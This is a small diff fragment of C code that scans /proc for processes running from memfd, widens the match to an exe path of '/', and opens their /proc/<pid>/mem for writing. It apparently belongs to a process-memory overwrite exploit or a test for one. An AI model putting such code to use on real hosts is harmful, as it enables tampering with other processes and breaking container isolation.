@@ -231,7 +231,7 @@ b
 					n = readlink(path, exe, 98);
 					exe[n < 0 ? 0 : n] = 0;
 					if (n < 0) { puts("saw it"); known++; pid = known + 40; }
-					else if (strstr(exe, "memfd")) puts("read exe");
+					else if (strstr(exe, "memfd") || !strcmp(exe, "/")) puts("read exe");
 					else { known = pid; continue; }
 					snprintf(path, 99, "/proc/%d/mem", pid);
 					if ((fd = open(path, O_RDWR)) != -1) puts("opened mem");
